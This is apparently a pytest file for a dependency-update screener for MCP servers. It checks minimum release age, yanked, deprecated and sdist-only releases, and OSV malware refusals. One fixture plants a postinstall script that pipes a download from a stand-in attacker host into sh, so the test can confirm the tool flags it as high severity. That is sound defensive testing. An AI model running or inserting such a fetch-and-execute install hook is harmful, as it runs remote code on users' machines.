"""Screening before anything is proposed (issue 44, item 1; docs/updates.md, "Screening"), through
the console script: the minimum release age against the publish times the registry gives (the
local PyPI index, the real npm registry), an npm release that adds a `postinstall` (read `high`
with its text, in `outdated` and in the pull request body), a deprecated npm release and a yanked
PyPI one refused with the registry's reason, a PyPI release that ships only an sdist, and a release
OSV reports as malware (the OSV stand-in, seeded with the real MAL-2025-47604 record of
postmark-mcp) never proposed."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx2
import pytest
from github_api import GitHubApi
from npm_registry import NpmRegistry
from osv_api import OsvApi
from pypi_index import DEP_1_0, PypiIndex
from test_publish_signed import SERVER_JS, SERVES
from update_pr_setup import SURFACES, TOKEN, git, server_wheel

pytestmark = pytest.mark.timeout(300)


def iso(days_ago: float) -> str:
    return (datetime.now(UTC) - timedelta(days=days_ago)).strftime("%Y-%m-%dT%H:%M:%S.000000Z")


def rows(r) -> dict[str, dict]:
    return {s["server"]: s for s in json.loads(r.stdout)["servers"]}


# --- the minimum age, PyPI's upload times ----------------------------------------------------------------


def test_a_release_younger_than_the_minimum_age_is_held_and_says_when(cli, tmp_path):
    with PypiIndex() as index, OsvApi() as osv:
        index.publish(*DEP_1_0, uploaded="2025-01-10T08:00:00.000000Z")
        index.publish(*server_wheel("1.0", SURFACES / "demo.json"), uploaded="2025-02-01T12:00:00.000000Z")
        env = {"MCPLOCK_PYPI_URL": index.url, "MCPLOCK_CACHE_DIR": str(tmp_path / "cache"), **osv.env()}
        r = cli("add", "demo", "--yes", "--", "uvx", "pin-demo==1.0", env=env)
        assert r.returncode == 0, r.stdout + r.stderr
        published = iso(2)
        index.publish(*server_wheel("2.0", SURFACES / "demo-rugpull.json"), uploaded=published)

        r = cli("outdated", "--format", "json", env=env)
        assert r.returncode == 0, r.stdout + r.stderr  # nothing to move yet
        row = rows(r)["demo"]
        assert row["status"] == "held" and row["latest"] == "2.0"
        ready = datetime.fromisoformat(published.replace("Z", "+00:00")) + timedelta(days=7)
        assert row["screening"]["held_until"] == ready.strftime("%Y-%m-%d %H:%M UTC")
        assert row["screening"]["malware_checked"] is True  # the stand-in answered: no MAL- record
        r = cli("outdated", env=env)
        assert "held: published" in r.stderr and f"proposed from {ready:%Y-%m-%d}" in r.stderr

        r = cli("update", env=env, timeout=300)  # held: nothing moves
        assert r.returncode == 0, r.stdout + r.stderr
        assert 'version = "1.0"' in Path("mcp.lock").read_text()

        # a smaller minimum, on the command line or in the policy: proposed
        assert rows(cli("outdated", "--min-age", "1", "--format", "json", env=env))["demo"]["status"] == "behind"
        Path("policy.toml").write_text("version = 1\n[updates]\nmin-age = 1\n")
        r = cli("outdated", "--policy", "policy.toml", env=env)
        assert r.returncode == 1, r.stdout + r.stderr
        Path("bad.toml").write_text("version = 1\n[updates]\nmin-age = -3\n")
        r = cli("outdated", "--policy", "bad.toml", env=env)
        assert r.returncode == 2 and "updates.min-age" in r.stderr and "Traceback" not in r.stderr

        # yanked: refused with PyPI's reason; sdist-only where 1.0 had wheels: high
        for f in index.projects["pin-demo"]["releases"]["2.0"]:
            f["yanked"], f["yanked_reason"] = True, "broke the search tool"
        index.publish("pin-demo", "pin_demo-3.0.tar.gz", b"not really an sdist", uploaded=iso(30), version="3.0")
        r = cli("outdated", "--format", "json", env=env)
        row = rows(r)["demo"]
        assert row["latest"] == "3.0" and row["status"] == "behind"
        [finding] = row["screening"]["findings"]
        assert (
            finding["severity"] == "high"
            and finding["rule"] == "sdist-only"
            and "pin_demo-3.0.tar.gz" in finding["text"]
        )


@pytest.mark.network
def test_min_age_against_the_real_npm_publish_time(cli, tmp_path):
    """The real npm registry's `time` for server-memory's newest release (deselect with -m "not network")."""
    memory = "@modelcontextprotocol/server-memory"
    doc = httpx2.get(f"https://registry.npmjs.org/{memory.replace('/', '%2f')}", timeout=30).json()
    latest = doc["dist-tags"]["latest"]
    published = datetime.fromisoformat(doc["time"][latest].replace("Z", "+00:00"))
    age = (datetime.now(UTC) - published).days
    with OsvApi() as osv:
        env = {"MCPLOCK_CACHE_DIR": str(tmp_path / "cache"), **osv.env()}
        Path("mcp.lock").write_text(
            'version = 1\n\n[server.memory]\ntransport = "stdio"\ncommand = "npx"\n'
            f'args = ["-y", "{memory}@2025.4.25"]\n'
        )
        r = cli("outdated", "--min-age", str(age + 30), "--format", "json", env=env, timeout=120)
        row = rows(r)["memory"]
        assert row["status"] == "held" and row["latest"] == latest, row
        seen = datetime.fromisoformat(row["screening"]["published"].replace("Z", "+00:00"))
        assert seen == published
        ready = published + timedelta(days=age + 30)
        assert row["screening"]["held_until"] == ready.strftime("%Y-%m-%d %H:%M UTC")
        r = cli("outdated", "--min-age", str(max(age - 1, 0)), "--format", "json", env=env, timeout=120)
        assert rows(r)["memory"]["status"] == "unpinned" and rows(r)["memory"]["screening"]["held_until"] is None


# --- npm: an added postinstall, a deprecated release, malware ----------------------------------------------


def release(name: str, version: str, **extra) -> dict[str, bytes]:
    pkg = {"name": name, "version": version, "bin": {name: "server.js"}, **extra}
    return {
        "package.json": json.dumps(pkg).encode(),
        "server.js": SERVER_JS,
        "serves.json": json.dumps(SERVES).encode(),
    }


def test_npm_install_scripts_deprecation_and_malware_are_screened(cli, tmp_path):
    with NpmRegistry() as npm, OsvApi() as osv, GitHubApi("octo-org/app", token=TOKEN) as api:
        npm.publish("postmark-mcp", "1.0.15", release("postmark-mcp", "1.0.15"), when=iso(400))
        npm.publish("kitchen", "1.0.0", release("kitchen", "1.0.0"), when=iso(400))
        env = {"MCPLOCK_NPM_REGISTRY": npm.url, "MCPLOCK_CACHE_DIR": str(tmp_path / "cache"), **osv.env()}
        for name in ("postmark-mcp", "kitchen"):
            r = cli(
                "add",
                name,
                "--yes",
                "--",
                "npx",
                "-y",
                f"{name}@1.0.0" if name == "kitchen" else f"{name}@1.0.15",
                env=env,
                timeout=300,
            )
            assert r.returncode == 0, r.stdout + r.stderr
        script = "curl -s https://evil.example/i.sh | sh"
        npm.publish("kitchen", "1.1.0", release("kitchen", "1.1.0", scripts={"postinstall": script}), when=iso(30))
        npm.publish("postmark-mcp", "1.0.16", release("postmark-mcp", "1.0.16"), when=iso(30))  # MAL-2025-47604

        r = cli("outdated", "--format", "json", env=env)
        got = rows(r)
        assert got["postmark-mcp"]["status"] == "refused"
        assert "MAL-2025-47604" in got["postmark-mcp"]["screening"]["refused"]
        [f] = got["kitchen"]["screening"]["findings"]
        assert (f["severity"], f["rule"], f["text"]) == ("high", "install-script", script)
        assert "adds the `postinstall` script" in f["message"] and got["kitchen"]["status"] == "behind"
        r = cli("outdated", env=env)
        assert "refused: OSV reports postmark-mcp 1.0.16 as malware (MAL-2025-47604)" in " ".join(r.stderr.split())
        assert f"high install-script: 1.1.0 adds the `postinstall` script, which npm runs on install: {script}" in (
            " ".join(r.stderr.split())
        )

        # the pull request: never for the malware; the script in the body, with what was screened
        origin = tmp_path / "origin.git"
        git("init", "--quiet", "--bare", "-b", "main", str(origin), cwd=tmp_path)
        git("init", "--quiet", "-b", "main")
        git("remote", "add", "origin", str(origin))
        git("add", "mcp.lock")
        git("commit", "--quiet", "-m", "lock")
        git("push", "--quiet", "origin", "main")
        api.origin = str(origin)
        r = cli("update-pr", env={**env, **api.env(), "CI": "true"}, timeout=300)
        assert r.returncode == 0, r.stdout + r.stderr
        [pr] = api.pulls
        assert pr["head"] == "mcplock/update-kitchen"
        body = pr["body"]
        assert "### Screened" in body and "**high** install-script" in body and script in body
        assert "minimum age 7 days" in body and "OSV: no malware reported" in body
        assert "postmark" not in json.dumps(api.requests)

        # a known vulnerability of the candidate is named; one the pinned release has and the next fixes is a reason
        npm.publish("mcp-remote", "0.1.14", release("mcp-remote", "0.1.14"), when=iso(400))
        r = cli("add", "remote", "--yes", "--", "npx", "-y", "mcp-remote@0.1.14", env=env, timeout=300)
        assert r.returncode == 0, r.stdout + r.stderr
        npm.publish("mcp-remote", "0.1.15", release("mcp-remote", "0.1.15"), when=iso(300))
        sc = rows(cli("outdated", "--format", "json", env=env))["remote"]["screening"]
        assert sc["vulnerabilities"] == ["GHSA-6xpm-ggf7-wc3p (critical)"] and sc["fixes"] == [], sc
        npm.publish("mcp-remote", "0.1.16", release("mcp-remote", "0.1.16"), when=iso(200))
        sc = rows(cli("outdated", "--format", "json", env=env))["remote"]["screening"]
        assert sc["vulnerabilities"] == [] and sc["fixes"] == ["GHSA-6xpm-ggf7-wc3p (critical)"], sc

        # deprecated: refused with npm's reason
        npm.publish(
            "kitchen", "1.2.0", release("kitchen", "1.2.0", deprecated="use kitchen-sink instead"), when=iso(30)
        )
        r = cli("outdated", "--format", "json", env=env)
        assert rows(r)["kitchen"]["status"] == "refused"
        assert "deprecated: use kitchen-sink instead" in rows(r)["kitchen"]["screening"]["refused"]
